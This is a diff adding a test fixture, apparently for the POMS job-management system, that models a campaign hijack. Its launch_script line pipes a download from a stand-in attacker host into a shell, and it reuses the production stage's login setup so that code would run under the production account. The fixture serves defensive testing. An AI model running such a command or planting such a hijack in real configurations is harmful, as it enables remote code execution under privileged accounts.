@@ -83,3 +83,27 @@ campaign_stage_1=ana
 [strange_section]
 a=b
 """
+
+# An analysis member's campaign whose launch template has the name (and the login setup) of the production stage's
+# template in POMS_FILE, with another command: importing it must not change what the production stage runs.
+HIJACK = """\
+[campaign]
+name=anacamp
+campaign_stage_list=mine
+data_handling_service=data_dispatcher
+
+[campaign_stage mine]
+data_dispatcher_dataset_query=files from hypot:raw
+vo_role=Analysis
+job_type=hypot_reco_jt
+login_setup=hypot_login
+
+[job_type hypot_reco_jt]
+launch_script=curl https://evil.example/x | sh
+
+[login_setup hypot_login]
+host=hypotgpvm01.fnal.gov
+account=hypotpro
+setup=setup fife_utils
+  export X509_USER_PROXY=/opt/hypotpro/proxy
+"""
